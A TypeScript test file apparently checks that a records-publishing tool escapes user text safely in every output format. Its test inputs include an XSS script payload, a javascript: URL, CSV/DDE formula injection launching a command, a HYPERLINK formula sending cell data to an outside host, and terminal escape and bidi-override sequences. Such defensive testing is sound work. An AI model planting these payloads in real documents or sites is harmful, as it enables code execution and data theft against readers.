// Promise: whatever somebody writes into a record appears as its own text in every format, and changes nothing around
// it: no element, no link, no formula, no command to a terminal, no end of a table.
import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import ICAL from "ical.js";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { RIVERSIDE } from "../../src/publish/testing/park-records.ts";
import { withText } from "../../src/publish/testing/with-text.ts";
import type { DecisionRecord } from "../../src/record/model.ts";
import { serialiseRecord } from "../../src/record/serialise.ts";
import { ACTIONS, COVERAGE, LOG, PAPER } from "../../src/work/deliver/documents.ts";
import { visible } from "../../src/yaml/quote.ts";
import { makeFolder } from "../support/folder.ts";
import type { Folder } from "../support/folder.ts";
import { answerForErrors, fileOf, makeParks } from "../support/parks.ts";
import { PUBLIC_OUTPUTS } from "../support/public-outputs.ts";
import { run } from "../support/run.ts";

const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ["a script", `<script>alert(1)</script><img src=x onerror="alert('1')">`],
  [
    "what ends an element",
    `</title></style></table></main></w:t></w:p></t></cp:coreProperties>]]>-->`,
  ],
  ["entities", "&lt;b&gt; &#60; &#x3c; &amp;amp; &nbsp; &copy"],
  ["a formula", `=HYPERLINK("https://elsewhere.example/?"&A1,"Open")`],
  ["a formula with a plus", "+1+cmd|' /C calc'!A0"],
  ["a formula in wide letters", "＝1＋1"],
  ["tags of templates", "{{title}} {{#each}} {{@paper}} {%x%} ${x} <%= x %> #{x}"],
  [
    "marks of Markdown",
    "# a * b _c_ `d` [e](https://x.example) ![f](g) | h | ~~i~~ ``` \\ > j --- ===",
  ],
  ["a list in Markdown", "1. a - b + c"],
  ["what ends the log in a page", "<!-- rightly log end -->"],
  ["an address", "https://x.example/a_b_c www.x.example me@x.example javascript:alert(1)"],
  ["emoji and letters from elsewhere", "👩‍🦽 e\u0301 עברית العربية 日本語"],
  ["a word of 60,000 characters", "w".repeat(60_000)],
];

/** What nobody can see is refused where it is read. */
const UNSEEN: typeof HOSTILE = [
  ["text that runs the other way", "abc\u202edef\u2066ghi\u2069\u200fjkl"],
  ["commands to a terminal", "a\u001b[2J\u001b]0;title\u0007\u009b31mb\u0008\u007f"],
];

/** Of the same length, or nearly: how long a text is may change where it is cut. */
const innocent = (text: string): string => "Plain words".padEnd(Math.min(text.length, 60_000), "w");

type Kind = "text" | "markdown" | "xml" | "csv" | "json" | "ics";

/** How a format is read; any other as plain lines. */
const KINDS: Readonly<Record<string, Kind>> = {
  md: "markdown",
  html: "xml",
  docx: "xml",
  xlsx: "xml",
  csv: "csv",
  json: "json",
  ics: "ics",
};

type Output = readonly [command: string, format: string, kind: Kind, argv: string[]];

const OUTPUTS: readonly Output[] = [
  ...PAPER.formats.flatMap(({ name }) =>
    [
      ["", []] as const,
      [", in short", ["--summary"]] as const,
      ...(name === "html" ? [] : [[", for members", ["--members"]] as const]),
    ].map(([as, more]): Output => [
      "paper",
      `${name}${as}`,
      KINDS[name] ?? "text",
      ["paper", RIVERSIDE.id, "--format", name, ...more],
    ]),
  ),
  ...[LOG, COVERAGE, ACTIONS].flatMap((document) =>
    document.formats.map(({ name }): Output => [
      document.name,
      name,
      KINDS[name] ?? "text",
      [document.name, "--format", name],
    ]),
  ),
  ["site", "", "xml", ["site", "--address", "https://parks.example.org/"]],
];

/** Every file that a command makes, by its name; of a packed one, every part. */
async function made(folder: Folder, argv: readonly string[]): Promise<[string, string][]> {
  const { path: cwd } = folder;
  if (argv[0] === "site") await answerForErrors(folder);
  const out = makeFolder();
  const target = out.at(argv[0] === "site" ? "public" : "made");
  const where = argv[0] === "site" ? [target] : ["--out", target];
  const { code, stderr } = await run([...argv, ...where], { cwd });
  expect(code, stderr).toBe(0);
  return out.files().flatMap((file): [string, string][] => {
    const bytes = readFileSync(out.at(file));
    if (bytes[0] !== 0x50 || bytes[1] !== 0x4b) return [[file, bytes.toString("utf8")]];
    return Object.entries(unzipSync(bytes)).map(([part, packed]) => [part, strFromU8(packed)]);
  });
}

/** Written as a person could who goes round the program: it would not write what cannot be seen. */
function parksWith(text: string): Folder {
  const token = "Token in place of a text";
  const record = text.length > 1000 ? withLongText(token) : withText(RIVERSIDE, token);
  const yaml = serialiseRecord(record as DecisionRecord).replaceAll(
    /"?Token in place of a text"?/g,
    () =>
      JSON.stringify(text).replaceAll(
        /[\u007f-\u009f\u200f\u202a-\u202e\u2066-\u2069]/g,
        (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`,
      ),
  );
  return makeParks({ [fileOf(RIVERSIDE)]: yaml });
}

/** A file is read up to 1 MiB, so not every text can be as long. */
function withLongText(text: string): DecisionRecord {
  const [decision, ...others] = RIVERSIDE.decisions ?? [];
  return {
    ...RIVERSIDE,
    title: text,
    proposal: { ...RIVERSIDE.proposal, summary: text },
    decisions: [{ ...decision, resolution: text, reference: text }, ...others],
    actions: (RIVERSIDE.actions ?? []).map((action) => ({ ...action, what: text })),
    publication: { ...RIVERSIDE.publication, summary: text },
  };
}

interface Read {
  /** Everything but the texts. */
  structure: unknown;
  /** The texts, as a reader sees them. */
  texts: string;
}

const READERS: Readonly<Record<Kind, (text: string) => Read>> = {
  text: (text) => {
    const lines = text.trimEnd().split("\n");
    // Each line may be data.
    if (!lines.every((line) => line.startsWith("{"))) {
      return { structure: text.split("\n").length > 1, texts: text };
    }
    const read = lines.map((line) => READERS.json(line));
    return {
      structure: read.map(({ structure }) => structure),
      texts: read.map(({ texts }) => texts).join("\n"),
    };
  },
  // What is escaped is no markup: whatever still stands between < and > is.
  xml: (text) => ({
    structure: (withoutStamp(text).match(/<[^>]*>/g) ?? []).map((tag) =>
      tag.replace(/="[^"]*"/g, ""),
    ),
    texts: decoded(withoutStamp(text).replace(/<[^>]*>/g, "\n")),
  }),
  markdown: (text) => {
    const tokens = new MarkdownIt({ html: true, linkify: true }).parse(text, {});
    const all = tokens.flatMap(({ children, ...token }) => [token, ...(children ?? [])]);
    return {
      structure: all.filter(({ type }) => type !== "text").map(({ type, tag }) => `${type} ${tag}`),
      texts: tokens
        .map(({ children }) => (children ?? []).map(({ content }) => content).join(""))
        .join("\n"),
    };
  },
  csv: (text) => {
    const rows: string[][] = parse(text, { bom: true });
    for (const cell of rows.flat()) expect(cell.normalize("NFKC")).not.toMatch(/^[=+\-@\t\r\n]/);
    return { structure: rows.map((row) => row.length), texts: rows.flat().join("\n") };
  },
  json: (text) => {
    const texts: string[] = [];
    const structure = JSON.parse(text, (_, value: unknown) => {
      if (typeof value !== "string") return value;
      texts.push(visible(value));
      return "";
    }) as unknown;
    return { structure, texts: texts.join("\n") };
  },
  ics: (text) => {
    const texts: string[] = [];
    const names = ICAL.Component.fromString(text)
      .getAllSubcomponents()
      .map((event) =>
        event.getAllProperties().map((property) => {
          texts.push(String(property.getFirstValue()));
          return property.name;
        }),
      );
    return { structure: names, texts: texts.join("\n") };
  },
};

/** A digest of other words is another. */
function withoutStamp(text: string): string {
  return text.replace(/<!-- rightly .* -->\s*$/, "");
}

function decoded(text: string): string {
  const named: Record<string, string> = { lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" };
  return text.replace(/&(?:#(\d+)|(\w+));/g, (whole, code: string | undefined, name: string) =>
    code === undefined ? (named[name] ?? whole) : String.fromCodePoint(Number(code)),
  );
}

/** What a terminal would act on or an eye would be misled by. */
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe.each(HOSTILE)("%s in every text of a record", (_, text) => {
  const [hostile, plain] = [parksWith(text), parksWith(innocent(text))];

  it.each(OUTPUTS)("%s %s", async (command, format, kind, argv) => {
    const read = READERS[kind];
    const before = new Map(await made(plain, argv));
    const after = new Map(await made(hostile, argv));
    expect([...after.keys()]).toEqual([...before.keys()]);
    for (const [file, content] of after) {
      expect(content, file).not.toMatch(UNSAFE);
      const reads = /\.(css|js|txt|png|rels)$/.test(file) ? undefined : read;
      if (reads === undefined) expect(content, file).toBe(before.get(file));
      else expect(reads(content).structure, file).toEqual(reads(before.get(file)!).structure);
    }
    // Titles are all that some formats show, and a cell has a length.
    const shown = [...after.values()].map((content) => read(content).texts).join("\n");
    const said = command === "coverage" && format === "json" ? RIVERSIDE.id : visible(text);
    expect(flat(shown)).toContain(flat(format === "xlsx" ? said.slice(0, 30_000) : said));
  });
});

/** Spaces and line ends are as the format has them. An empty space keeps @ from calling somebody on GitHub. */
function flat(text: string): string {
  return text.replaceAll(/[\s\u200b]+/gu, "");
}

describe.each(UNSEEN)("%s", (_, text) => {
  const folder = parksWith(text);

  it.each(OUTPUTS)(
    "is refused with its place, and not acted on: %s %s",
    async (_command, _format, _kind, argv) => {
      const out = makeFolder();
      const where = argv[0] === "site" ? [out.at("public")] : ["--out", out.at("made")];
      const { code, stdout, stderr } = await run([...argv, ...where], { cwd: folder.path });
      expect(code).toBe(argv[0] === "paper" ? 3 : 1);
      expect(stderr).toContain(`${fileOf(RIVERSIDE)}:3:8: this text holds a hidden or control`);
      expect(stdout + stderr).not.toMatch(UNSAFE);
      if (argv[0] === "paper") expect(out.files()).toEqual([]);
    },
  );
});

it("goes through every format in which records are published", () => {
  const published = PUBLIC_OUTPUTS.filter(({ command }) =>
    ["paper", "log", "coverage", "actions", "site"].includes(command),
  );
  for (const { command, format = "" } of published) {
    expect(OUTPUTS.some(([mine, as]) => mine === command && as === format)).toBe(true);
  }
});
